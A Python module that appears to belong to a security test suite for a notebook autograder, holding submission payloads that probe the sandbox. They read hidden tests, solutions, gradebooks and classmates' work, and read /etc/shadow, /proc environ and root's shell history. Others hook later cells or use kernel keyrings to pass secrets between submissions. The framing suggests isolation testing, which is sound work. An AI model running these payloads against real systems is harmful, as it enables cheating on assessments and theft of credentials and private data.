"""Family 5: read hidden tests, solutions and grades, and print them so they land in the feedback."""

from . import answer


@answer(5)
def read_course_files(ctx):
    """Open the source notebook, config, gradebook and classmates' notebooks by absolute path (temp course and repo)."""
    return r'''
    import os as _os
    _paths = []
    for _root in (_ATTACK["course"], _ATTACK["main"]):
        a = _ATTACK["assignment"]
        _paths += [f"{_root}/source/{a}/{a}.ipynb", f"{_root}/nbgrader_config.py", f"{_root}/gradebook.db",
                   f"{_root}/source/header.ipynb", f"{_root}/authoring/{a}/{a}.py", f"{_root}/src/course_tools/grading/judge.py"]
        for _victim in _ATTACK["victims"]:
            _paths += [f"{_root}/submitted/{_victim}/{a}/{a}.ipynb", f"{_root}/autograded/{_victim}/{a}/{a}.ipynb"]
    _paths += ["../../../source/%s/%s.ipynb" % ((_ATTACK["assignment"],) * 2), "/proc/1/cmdline", "/proc/1/environ",
               "/etc/passwd", "/etc/shadow", "/root/.bash_history"]
    for _p in _paths:
        try:
            with open(_p, "rb") as _f:
                _text = _f.read(200_000).decode("utf-8", "replace")
            if "normalize_context" in _text or "CourseDirectory" in _text or "submitted_assignment" in _text:
                print("ATTACK-SUCCEEDED read", _p)
            print("READ", _p, _text)
        except Exception as _e:
            print("cannot read", _p, type(_e).__name__)
    '''


@answer(5)
def walk_the_filesystem(ctx):
    """Walk '/' (not /proc, /sys) for notebooks, databases and configs, and print every one that mentions a solution."""
    return r'''
    import os as _os
    _found = []
    for _dir, _dirs, _files in _os.walk("/"):
        _dirs[:] = [d for d in _dirs if _os.path.join(_dir, d) not in ("/proc", "/sys", "/dev")]
        for _name in _files:
            if _name.endswith((".ipynb", ".db", ".sqlite")) or _name in ("nbgrader_config.py", "gradebook.db"):
                _found.append(_os.path.join(_dir, _name))
    print(len(_found), "interesting files:", _found[:200])
    for _p in _found:
        try:
            _text = open(_p, "rb").read(2_000_000).decode("utf-8", "replace")
        except Exception:
            continue
        if ("BEGIN SOLUTION" in _text or "BEGIN HIDDEN TESTS" in _text) and "normalize_context" in _text:
            print("ATTACK-SUCCEEDED read", _p, _text[:100_000])
        elif "submitted_assignment" in _text and _ATTACK["assignment"] in _text:
            print("ATTACK-SUCCEEDED read a gradebook", _p)
    print("top level:", sorted(_os.listdir("/")), "work:", _os.listdir("/work") if _os.path.isdir("/work") else None,
          "main:", _os.listdir("/work/main") if _os.path.isdir("/work/main") else None)
    '''


@answer(5)
def history_environment_and_proc(ctx):
    """Print In/Out/history, every later cell's source (pre_run_cell), the environment and every /proc entry's cmdline/environ."""
    return r'''
    import os as _os
    _shell = get_ipython()
    print("In:", globals().get("In"), "Out:", globals().get("Out"), "_ih:", globals().get("_ih"))
    try:
        print("history:", list(_shell.history_manager.get_range(raw=True)))
    except Exception as _e:
        print("history:", _e)
    print("user_ns:", sorted(_shell.user_ns))
    print("environ:", dict(_os.environ), "uid:", _os.getuid(), "cwd:", _os.getcwd(), "ppid:", _os.getppid())
    for _pid in sorted(p for p in _os.listdir("/proc") if p.isdigit()):
        for _what in ("cmdline", "environ", "status"):
            try:
                print(_pid, _what, open(f"/proc/{_pid}/{_what}", "rb").read(5000))
            except Exception as _e:
                print(_pid, _what, type(_e).__name__)
        try:
            print(_pid, "cwd", _os.readlink(f"/proc/{_pid}/cwd"), "root", _os.listdir(f"/proc/{_pid}/root"))
        except Exception as _e:
            print(_pid, "cwd/root", type(_e).__name__)
    _shell.events.register("pre_run_cell", lambda info: print("NEXT CELL SOURCE:", info.raw_cell))
    _shell.events.register("post_run_cell", lambda result: print("NAMES NOW:", sorted(_shell.user_ns)[:400]))
    '''


@answer(5)
def record_test_inputs(ctx):
    """normalize_context records every argument the (hidden) tests pass; a hook prints them from every later cell."""
    return r'''
    _SEEN = []
    def normalize_context(context, vocab, max_len=None):
        _SEEN.append(repr((context, max_len))[:300])
        import inspect as _inspect
        _SEEN.append("stack: " + repr([f.function for f in _inspect.stack()])[:300])
        raise NotImplementedError()
    get_ipython().events.register("post_run_cell", lambda result: print("TEST INPUTS SEEN:", _SEEN[-50:]))
    '''


_KEYRINGS = r'''
    import ctypes as _ct, os as _os
    _libc = _ct.CDLL(None, use_errno=True)
    _libc.syscall.restype = _ct.c_long
    _ADD_KEY, _KEYCTL = (248, 250) if _os.uname().machine == "x86_64" else (217, 219)
    # thread, process, session, user and user-session keyrings, and the persistent one (KEYCTL_GET_PERSISTENT)
    _RINGS = {"thread": -1, "process": -2, "session": -3, "user": -4, "user-session": -5}
    _persistent = _libc.syscall(_KEYCTL, 22, -1, -4)
    if _persistent >= 0:
        _RINGS["persistent"] = _persistent
    _DESCRIPTION = ("course-attack-" + _ATTACK["marker"]).encode()
'''


@answer(5)
def store_a_key_in_the_kernel(ctx):
    """Store a secret with add_key in every keyring (user, session, persistent...): it would outlive grading."""
    return _KEYRINGS + r'''
    for _name, _ring in _RINGS.items():
        _key = _libc.syscall(_ADD_KEY, b"user", _DESCRIPTION, b"answers for the next one", 24, _ring)
        if _key >= 0:
            print("ATTACK-SUCCEEDED stored a key in the", _name, "keyring:", _key)
        else:
            print("add_key", _name, _os.strerror(_ct.get_errno()))
    '''


@answer(5)
def take_the_key_a_classmate_stored(ctx):
    """Search every keyring for the key att_05_store_a_key_in_the_kernel stored, and read /proc/keys."""
    return _KEYRINGS + r'''
    import time as _time
    for _attempt in range(3):  # the storing submission may be graded at the same time, by the other worker
        for _name, _ring in _RINGS.items():
            _key = _libc.syscall(_KEYCTL, 10, _ring, b"user", _DESCRIPTION, 0)  # KEYCTL_SEARCH
            if _key >= 0:
                _buffer = _ct.create_string_buffer(100)
                _libc.syscall(_KEYCTL, 11, _key, _buffer, 100)  # KEYCTL_READ
                print("ATTACK-SUCCEEDED found the stored key in the", _name, "keyring:", _buffer.value)
            else:
                print("keyctl search", _name, _os.strerror(_ct.get_errno()))
        try:
            if _DESCRIPTION.decode() in open("/proc/keys").read():
                print("ATTACK-SUCCEEDED saw the stored key in /proc/keys")
        except OSError as _e:
            print("/proc/keys", type(_e).__name__)
        _time.sleep(1)
    '''
